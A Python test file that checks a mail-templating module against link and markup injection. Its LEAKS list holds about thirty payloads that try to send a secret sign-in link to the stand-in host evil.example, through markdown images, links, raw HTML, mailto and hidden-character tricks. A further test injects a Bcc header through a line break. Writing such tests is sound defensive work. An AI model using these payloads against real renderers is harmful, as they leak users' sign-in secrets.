"""Facts in a mail's Markdown: never markup, never part of an address, and both parts say the same."""

import re
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from plenaria.core.mail import Markdown, content_of, subject_of
from plenaria.core.mail.filling import Content
from plenaria.core.mail.installation import address

LINK = f"{address()}/sign-in/zkup_SECRET"
EVIL = "https://evil.example/?l="
FACTS = {"link": LINK, "name": "Ana", "evil": EVIL, "note": Markdown(f"Vea ![x]({EVIL}p.png) **ya** {EVIL}")}

LEAKS = [
    "![ ](https://evil.example/p.png?l={link})",
    "![{link}](https://evil.example/p.png)",
    "[Entrar](https://evil.example/?l={link})",
    "[Entrar](<https://evil.example/?l={link}>)",
    "[Entrar][r]\n\n[r]: https://evil.example/?l={link}",
    "![x][r]\n\n[r]: https://evil.example/{link}.png",
    "<https://evil.example/?l={link}>",
    "https://evil.example/?l={link}",
    "www.evil.example/?l={link}",
    "evil.example/{link}",
    "**https://evil.example/?l=**{link}",
    "`https://evil.example/?l={link}`",
    "    https://evil.example/?l={link}",
    "```\nhttps://evil.example/?l={link}\n```",
    "[https://evil.example/?l=](https://evil.example/?l=){link}",
    "https://evil.example/?l=[{link}]({link})",
    "https://evil.example/?l=[]({link})",
    "https://evil.example/?l=[aquí]({link})",
    "https://evil.example/?l=\\\n{link}",
    "{evil}{link}",
    "{note}{link}",
    "https://evil.example/?l={note}{link}",
    "[x](mailto:evil@evil.example?body={link})",
    "<{link}@evil.example>",
    '<img src="https://evil.example/?l={link}">',
    '<a href="https://evil.example/?l={link}">x</a>',
    "https://evil.example/?l=\u00a0{link}",
    "https://evil.example/?l=\u200b{link}",
    "&#104;ttps://evil.example/?l={link}",
    "https://evil.example/?l=\\{link}{link}",
]


def elements(content: Content) -> Any:
    return lxml_html.fromstring(f"<div>{content.html}</div>")


def addresses_seen(text: str) -> list[str]:
    """What a mail program makes links of: runs without ASCII space that look like an address."""
    return [word for word in re.split(r"[ \t\r\n<>]", text) if re.search(r"://|www\.|\w\.\w+[/?#]", word)]


@pytest.mark.parametrize("body", LEAKS)
def test_a_secret_address_never_becomes_part_of_another_one(body: str) -> None:
    content = content_of(body, FACTS, "es")

    found = elements(content)
    targets = [each.get(name) for each in found.iter() for name in ("href", "src") if each.get(name)]
    assert [each for each in targets if "zkup_SECRET" in each and each != LINK] == []
    assert list(found.iter("img")) == []
    with_secret = [word for word in addresses_seen(content.text) if "zkup_SECRET" in word]
    assert {word.strip(".,:;\"'()[]") for word in with_secret} <= {LINK}


@pytest.mark.parametrize(
    ("body", "text"),
    [
        ("Entre: {link}.", f"Entre: {LINK}."),
        ("(vea {link})", f"(vea {LINK})"),
        ("Vea [su pedido]({link}), {name}", f"Vea su pedido <{LINK}>, Ana"),
        ("[Entrar]({link})", f"Entrar:\n{LINK}"),
        ("{link}", f"Open:\n{LINK}"),
        ("[{link}]({link}) y más", f"{LINK} y más"),
    ],
)
def test_an_address_that_stands_alone_is_a_link(body: str, text: str) -> None:
    content = content_of(body, FACTS, "en")

    assert content.text == f"{text}\n"
    assert {each.get("href") for each in elements(content).iter("a")} == {LINK}


def test_a_link_alone_in_its_paragraph_is_a_button_with_its_address_beneath() -> None:
    found = elements(content_of("Hola\n\n[Entrar]({link})\n\nVea [esto]({link}).", FACTS, "es"))

    (button,) = found.iterfind(".//a[@class='button']")
    assert (button.text, button.get("href")) == ("Entrar", LINK)
    (beneath,) = found.iterfind(".//p[@class='address']/a")
    assert (beneath.text, beneath.get("href")) == (LINK, LINK)


def test_a_text_that_looks_like_a_mark_of_ours_is_a_text() -> None:
    assert content_of("factmark7end {name} factmark0end", FACTS, "es").text == "factmark7end Ana factmark0end\n"


def test_an_escaped_placeholder_stays_as_it_is() -> None:
    assert (
        content_of(r"\{name}: {name} y _el {na_} fin_", {**FACTS, "na_": "x"}, "es").text == "{name}: Ana y el x fin\n"
    )


def test_a_subject_holds_no_address_and_no_line_break() -> None:
    assert subject_of("{name}:\n {link} {unknown}", {**FACTS, "name": "Ana\r\nBcc: x"}) == "Ana Bcc: x: {unknown}"


# ------------------------------------------------------------------------------------------------- any body, any facts

MARKS = st.sampled_from(
    ["{a}", "{b}", "{link}", "*", "**", "_", "`", "```\n", "\n", "\n\n", "- ", "1. ", "> ", "# ", "[", "](", ")", "![", "<",
     ">", "\\", "https://x.example/", "   ", "    ", "---\n", "&amp;", "&", "=", ":", "|", "{", "}", "[r]: ", "factmark0end"]
)  # fmt: skip
BODY = st.lists(MARKS | st.text(max_size=8), max_size=30).map("".join)
FACT = st.lists(MARKS | st.text(max_size=8), max_size=10).map("".join)


def words_of(element: Any) -> str:
    """What a reader of the HTML sees, with where the links go and how lists are numbered, as the text part has it."""
    words = element.text or ""
    number = int(element.get("start", 1))
    for child in element:
        inner = words_of(child)
        if child.tag == "li" and element.tag == "ol":
            inner = f"{number}{inner}"
            number += 1
        if child.tag == "a" and child.get("class") == "link" and child.text_content().strip() != child.get("href"):
            inner += child.get("href") or ""
        words += inner + (child.tail or "")
    return words


def letters(text: str) -> str:
    return re.sub(r"[\W_]+", "", text)


@settings(max_examples=400, deadline=None)
@given(body=BODY, a=FACT, b=FACT)
@example(body="factmark7end {a}", a="", b="")
@example(body="{a}{link}", a=EVIL, b="")
@example(body="0. \n0. {a}", a="x", b="")
def test_any_body_and_any_facts_draw_and_both_parts_say_the_same(body: str, a: str, b: str) -> None:
    content = content_of(body, {"a": a, "b": b, "link": LINK}, "es")

    assert letters(content.text) == letters(words_of(elements(content)))
    for target in [each.get("href") for each in elements(content).iter("a")]:
        assert "SECRET" not in target or target == LINK
    assert all(word.count("SECRET") == 0 or LINK in word for word in addresses_seen(content.text))


@settings(max_examples=200, deadline=None)
@given(a=FACT, b=FACT)
def test_a_fact_is_never_markup(a: str, b: str) -> None:
    body = "Hola **{a}**: {b}, `{a}` [aquí]({link})."

    drawn = elements(content_of(body, {"a": a, "b": b, "link": LINK}, "es"))
    plain = elements(content_of(body, {"a": "x", "b": "x", "link": LINK}, "es"))

    def shape(root: Any) -> list[str]:
        return [each.tag for each in root.iter() if each.tag != "br" and each.get("href") in (None, LINK)]

    ours = [each for each in drawn.iter("a") if each.get("href") != LINK]
    assert ours == []
    assert [tag for tag in shape(drawn) if tag != "a"] == [tag for tag in shape(plain) if tag != "a"]
    seen = letters("".join(drawn.itertext()))
    assert seen == letters(f"Hola {a}: {b}, {a} aquí.".replace("\r", " "))


@pytest.mark.parametrize(
    "piece", ["*a ", "[", "![", "![x](a)", "> ", "- ", "`", "![" * 20 + "](a)" * 20, "_a *b ", "{link}"]
)
def test_ten_thousand_hostile_characters_are_drawn(piece: str) -> None:
    content_of((piece * 10_000)[:10_000], FACTS, "es")
